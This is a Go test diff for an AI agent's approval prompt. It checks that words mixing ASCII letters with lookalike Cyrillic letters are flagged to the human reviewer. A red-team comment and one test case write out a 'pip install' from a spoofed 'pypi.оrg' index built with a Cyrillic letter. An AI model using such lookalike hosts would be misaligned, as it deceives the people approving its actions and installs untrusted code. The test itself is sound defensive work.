@@ -892,3 +892,37 @@ func TestAnswerItemsForAnAskRule(t *testing.T) {
 		}
 	}
 }
+
+// TestApprovalFlagsLookalikeLetters (red team, 2026-12-03): an edit
+// putting a Cyrillic о into pypi.org looked like the real index on its
+// card. A word mixing ASCII letters with letters of a script that passes
+// for them is named on the card, with the code point; words wholly in
+// another script, and accented Latin, are not.
+func TestApprovalFlagsLookalikeLetters(t *testing.T) {
+	for _, tc := range []struct {
+		args string
+		want string
+	}{
+		{`{"command":"pip install --index-url https://pypi.оrg/simple x"}`, "https://pypi.оrg/simple (о is U+043E)"},
+		{`{"command":"echo привет мир && echo café"}`, ""},
+		{`{"command":"curl https://example.com/"}`, ""},
+	} {
+		h := newHarness(t, 120, colorprofile.NoTTY, allHold())
+		h.start(h.conn(policy.ModeAsk, nil))
+		req := bashRequest("/ws")
+		req.Args = json.RawMessage(tc.args)
+		h.send(approvalMsg{&pending{req: req, reply: make(chan agent.Approval, 1)}})
+		frame := h.frame()
+		got := strings.Contains(frame, "letters of another script inside words of ASCII ones")
+		if got != (tc.want != "") || tc.want != "" && !strings.Contains(frame, tc.want) {
+			t.Errorf("%s: warning %v, want %q:\n%s", tc.args, got, tc.want, frame)
+		}
+	}
+	// An edit's new text is looked at too.
+	if got := lookalikes(args{Edits: []struct {
+		OldString string `json:"old_string"`
+		NewString string `json:"new_string"`
+	}{{OldString: "pypi.org", NewString: "pypi.оrg"}}}); len(got) != 1 {
+		t.Errorf("edit: %v", got)
+	}
+}
